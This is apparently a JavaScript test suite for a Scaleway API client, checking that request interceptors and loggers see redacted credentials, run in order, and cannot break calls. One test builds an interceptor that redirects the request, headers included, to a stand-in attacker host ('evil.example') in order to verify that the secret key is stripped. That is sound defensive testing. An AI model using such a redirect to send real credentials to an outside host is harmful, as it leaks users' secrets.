// Interceptors and logger: what they see, what they may change, and that they cannot break a call.
import { assert } from "/chai/index.js";
import { AccountApi, ResourceNotFoundError, ScalewayError } from "/pkg/index.js";
import * as sandbox from "../page/sandbox.mjs";
import { useClock } from "../page/clock.mjs";
import { PROJECT, fake, json, one, pagesOf, text } from "../page/fake.mjs";

const { NOBODY: ID, client, journal, rejection, reset } = sandbox;

const KEY = "77777777-7777-4777-8777-777777777777";
const JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl";

const api = (settings) => new AccountApi({ apiURL: "", defaultProjectId: ID, defaultOrganizationId: ID, ...settings });
const missing = () => json({ type: "not_found", message: "resource is not found", resource: "project_id", resource_id: ID }, { status: 404 });

/** Everything that a request shows. */
const shown = (request) => JSON.stringify([request.url, ...request.headers]);

describe("interceptors", () => {
  useClock();
  const { reportError } = globalThis;
  let reported;
  beforeEach(() => {
    reported = [];
    globalThis.reportError = (error) => reported.push(error);
  });
  afterEach(() => (globalThis.reportError = reportError));

  it("see the request without its credentials, which are sent all the same", async () => {
    for (const [settings, header, value] of [[{ secretKey: KEY }, "X-Auth-Token", KEY], [{ jwt: JWT }, "X-Session-Token", JWT], [{ token: () => KEY }, "X-Auth-Token", KEY]]) {
      const httpClient = fake(one);
      const seen = [];
      const interceptor = { request: ({ request }) => void seen.push(request) };
      await api({ httpClient, interceptors: [interceptor], ...settings }).updateProject({ name: "b" });
      assert.notInclude(shown(seen[0]), value);
      assert.include(seen[0].headers.get(header), "redacted");
      assert.equal(seen[0].method, "PATCH");
      assert.equal(httpClient.requests[0].headers.get(header), value);
      assert.equal(await httpClient.requests[0].text(), '{"name":"b"}');
    }
  });

  it("keep the request to the byte, in the sandbox", async () => {
    await reset();
    const plain = client();
    const watched = client({ interceptors: [{ request() {} }, {}, { response: ({ response }) => response }] });
    for (const one of [plain, watched]) await one.createProject({ name: "a", description: "é" });
    const [a, b] = (await journal()).map(({ method, target, body, headers }) => ({ method, target, body, headers }));
    assert.deepEqual(b, a);
  });

  it("keep the options that protect the request", async () => {
    const httpClient = fake(one);
    const change = ({ request }) => new Request(request, { headers: { ...Object.fromEntries(request.headers), "X-Trace": "1" } });
    await api({ httpClient, secretKey: KEY, interceptors: [{ request: change }] }).getProject();
    const [request] = httpClient.requests;
    assert.equal(request.headers.get("X-Trace"), "1");
    assert.equal(request.headers.get("X-Auth-Token"), KEY);
    assert.include({ redirect: request.redirect, cache: request.cache, referrerPolicy: request.referrerPolicy }, { redirect: "error", cache: "no-store", referrerPolicy: "no-referrer" });
  });

  it("that follow redirects, or drop the signal, do not get their way", async () => {
    const httpClient = fake(one);
    const change = ({ request }) => new Request(request.url, { method: request.method, headers: request.headers, redirect: "follow" });
    await api({ httpClient, secretKey: KEY, interceptors: [{ request: change }] }).getProject();
    assert.equal(httpClient.requests[0].redirect, "error");
  });

  it("that send the request elsewhere do not send the key with it", async () => {
    const httpClient = fake(one);
    const elsewhere = ({ request }) => new Request("https://evil.example/", { headers: request.headers });
    await api({ httpClient, secretKey: KEY, interceptors: [{ request: elsewhere }] }).getProject();
    assert.notInclude(shown(httpClient.requests[0]), KEY);
    assert.isFalse(httpClient.requests[0].headers.has("X-Auth-Token"));
  });

  it("may set a credential of their own", async () => {
    const httpClient = fake(one);
    const own = ({ request }) => {
      const headers = new Headers(request.headers);
      headers.set("X-Auth-Token", "their-own");
      return new Request(request, { headers });
    };
    await api({ httpClient, secretKey: KEY, interceptors: [{ request: own }] }).getProject();
    assert.equal(httpClient.requests[0].headers.get("X-Auth-Token"), "their-own");
  });

  it("run in their order, and may wait", async () => {
    const order = [];
    const step = (name) => ({
      async request({ request }) {
        await null;
        order.push(`request ${name}`);
        return request;
      },
      async response({ response }) {
        order.push(`response ${name}`);
        return response;
      },
    });
    await api({ httpClient: fake(one), interceptors: [step("a"), step("b")] }).getProject();
    assert.deepEqual(order, ["request a", "request b", "response a", "response b"]);
  });

  it("may put another answer in the place of one", async () => {
    const response = () => json({ ...PROJECT, name: "other" });
    assert.equal((await api({ httpClient: fake(one), interceptors: [{ response }] }).getProject()).name, "other");
  });

  it("that throw or return nonsense do not break a call, and are reported", async () => {
    const fail = () => { throw new Error("mine"); };
    for (const interceptors of [[{ request: fail, response: fail }], [{ request: async () => fail(), response: async () => fail() }], [{ request: () => null, response: () => undefined }]]) {
      assert.equal((await api({ httpClient: fake(one), interceptors }).getProject()).name, "web-shop");
    }
    assert.equal(reported.length, 4);
    assert(reported.every(({ message }) => message === "mine"));
  });

  it("that return what is no Request or Response fail the call with an error, and no trap", async () => {
    for (const interceptors of [[{ request: () => 5 }], [{ request: () => ({}) }], [{ response: () => 5 }], [{ response: () => ({}) }]]) {
      const some = api({ httpClient: fake(one), interceptors, maxRetries: 0 });
      assert.instanceOf(await rejection(some.getProject()), Error);
    }
  });

  it("that read the request's body, or return what only looks like a Request, fail the call at once", async () => {
    const read = async ({ request }) => void (await request.text());
    for (const request of [read, ({ request: { url, headers } }) => ({ url, headers })]) {
      for (const apiURL of ["", "https://api.example"]) {
        const httpClient = fake(one);
        const error = await rejection(api({ httpClient, apiURL, secretKey: KEY, interceptors: [{ request }] }).updateProject({ name: "b" }));
        assert.equal(error.name, "ConnectionError");
        assert.notInclude(error.message, "CORS");
        assert.deepEqual([httpClient.requests.length, error.attempts], [0, 0]);
      }
    }
  });

  it("see every attempt", async () => {
    let seen = 0;
    const httpClient = fake(() => text("", 503), one);
    await api({ httpClient, interceptors: [{ request: () => void seen++ }] }).getProject();
    assert.equal(seen, 2);
  });

  it("keep `this`", async () => {
    class Tracer {
      count = 0;
      request() { this.count++; }
    }
    const tracer = new Tracer();
    await api({ httpClient: fake(one), interceptors: [tracer] }).getProject();
    assert.equal(tracer.count, 1);
  });

  describe("responseError", () => {
    it("sees the error once, after the retries, without credentials", async () => {
      const seen = [];
      const httpClient = fake(() => text("", 503));
      const error = await rejection(api({ httpClient, secretKey: KEY, interceptors: [{ responseError: (given) => void seen.push(given) }] }).getProject());
      assert.equal(seen.length, 1);
      assert.equal(seen[0].error, error);
      assert.instanceOf(seen[0].request, Request);
      assert.notInclude(shown(seen[0].request), KEY);
      assert.equal(error.attempts, 3);
    });

    it("may mend the call", async () => {
      const mended = { id: "mended" };
      const responseError = ({ error }) => {
        if (error instanceof ResourceNotFoundError) return mended;
        throw error;
      };
      assert.equal(await api({ httpClient: fake(missing), interceptors: [{ responseError }] }).getProject(), mended);
      assert.instanceOf(await rejection(api({ httpClient: fake(() => text("", 400)), interceptors: [{ responseError }] }).getProject()), ScalewayError);
    });

    it("may put another error in its place, for the next one to see", async () => {
      const mine = new RangeError("mine");
      let seen;
      const interceptors = [{ responseError: () => { throw mine; } }, { responseError: ({ error }) => { seen = error; throw error; } }];
      assert.equal(await rejection(api({ httpClient: fake(missing), interceptors }).getProject()), mine);
      assert.equal(seen, mine);
    });

    it("may say that there is none, at once or later", async () => {
      for (const responseError of [() => null, async () => null]) {
        assert.isNull(await api({ httpClient: fake(missing), interceptors: [{ responseError }] }).getProject());
      }
    });

    it("that only watches keeps the error", async () => {
      const error = await rejection(api({ httpClient: fake(missing), interceptors: [{ responseError: async () => {} }] }).getProject());
      assert.instanceOf(error, ResourceNotFoundError);
    });

    it("sees no abort, and no argument that was refused", async () => {
      let seen = 0;
      const some = api({ httpClient: fake(one), interceptors: [{ responseError: () => void seen++ }] });
      await rejection(some.getProject({}, { signal: AbortSignal.abort("x") }));
      await rejection(some.getProject({ projectId: "x" }));
      assert.equal(seen, 0);
    });

    it("that mends a page of a listing with nonsense is no trap", async () => {
      for (const mended of [5, null, {}, [], { projects: 5 }, { projects: [null] }, { projects: [{}], totalCount: "x" }]) {
        const pages = pagesOf(500);
        const httpClient = fake((request) => (request.url.includes("page=2&") ? text("", 404) : pages(request)));
        const some = api({ httpClient, interceptors: [{ responseError: () => mended }] });
        const outcome = await some.listProjects().all().catch((error) => error);
        assert(Array.isArray(outcome) || outcome instanceof Error, String(outcome));
        assert.equal((await api({ httpClient: fake(one) }).getProject()).name, "web-shop");
      }
    });
  });
});

describe("logger", () => {
  useClock();
  const { reportError } = globalThis;
  afterEach(() => (globalThis.reportError = reportError));

  const recorder = () => {
    const lines = [];
    const log = (level) => (...values) => lines.push([level, ...values]);
    return { lines, debug: log("debug"), info: log("info"), warn: log("warn"), error: log("error") };
  };

  it("is told of each exchange and each retry, in text", async () => {
    const logger = recorder();
    const httpClient = fake(() => text("", 503), () => json(PROJECT, { headers: { "X-Request-Id": "request-7" } }));
    await api({ httpClient, logger }).getProject();
    const lines = logger.lines.map((line) => line.join(" "));
    assert(logger.lines.every((line) => line.length === 2 && typeof line[1] === "string"));
    const all = lines.join("\n");
    for (const word of ["GET", `/account/v3/projects/${ID}`, "503", "200", "request-7", "again"]) assert.include(all, word);
    assert(logger.lines.some(([level]) => level === "warn"));
  });

  it("never sees a secret, even one that the server echoes", async () => {
    for (const settings of [{ secretKey: KEY }, { jwt: JWT }, { token: () => KEY }]) {
      const secret = settings.jwt ?? KEY;
      const logger = recorder();
      const echo = () => json({ type: "conflict", message: `you sent ${secret}` }, { status: 503, headers: { "X-Request-Id": secret } });
      await rejection(api({ httpClient: fake(echo), logger, ...settings }).getProject());
      assert.isAbove(logger.lines.length, 2);
      assert.notInclude(JSON.stringify(logger.lines), secret);
    }
  });

  it("that throws does not break a call", async () => {
    const reported = [];
    globalThis.reportError = (error) => reported.push(error);
    const fail = () => { throw new Error("mine"); };
    const logger = { debug: fail, info: fail, warn: fail, error: fail };
    assert.equal((await api({ httpClient: fake(() => text("", 503), one), logger }).getProject()).name, "web-shop");
    assert.isAbove(reported.length, 0);
  });

  it("keeps `this`", async () => {
    class Logger {
      lines = 0;
      debug() { this.lines++; }
      info() { this.lines++; }
      warn() { this.lines++; }
      error() { this.lines++; }
    }
    const logger = new Logger();
    await api({ httpClient: fake(one), logger }).getProject();
    assert.isAbove(logger.lines, 0);
  });
});
